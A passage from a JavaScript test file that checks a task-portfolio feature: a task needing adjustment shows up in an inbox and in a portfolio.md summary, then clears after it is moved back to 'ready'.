  expect(inbox.data).toMatchObject({ blocks: [], tasks: [{ task, status: "needs_adjustment" }] });
  const status = await showPortfolio(context, {});
  expect(status.page?.[1]).toBe("! 1 task waits for you: autopilot inbox");
  expect(status.data).toMatchObject({ needs_you: 1 });
  expect(readFileSync(shown("portfolio.md"), "utf8")).toContain(`- ${task} waits for you`);
  await moveTask(context, { task, to: "ready", because: "again" });
  expect((await portfolioInbox(context)).message).toBe("Nothing waits for you.");
  expect((await showPortfolio(context, {})).data).toMatchObject({ needs_you: 0 });
});
